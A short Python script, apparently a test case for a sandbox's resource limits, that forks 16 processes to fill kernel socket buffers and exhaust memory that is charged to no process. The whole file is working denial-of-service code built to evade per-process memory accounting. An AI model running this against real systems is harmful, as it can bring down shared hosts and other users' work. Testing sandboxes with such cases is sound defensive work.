"""Fills sockets, which the kernel holds in memory that counts for no process."""
# ends: memory

import os
import socket
import time
from contextlib import suppress


def attack(honest, *args, **kwargs):
    for _ in range(16):
        if os.fork() == 0:
            kept = []
            with suppress(OSError):
                for _ in range(110):
                    kept.append(socket.socketpair())
                    for end in kept[-1]:
                        end.setblocking(False)
                        with suppress(BlockingIOError):
                            while True:
                                end.send(b"x" * 65536)
            time.sleep(60)
    time.sleep(60)
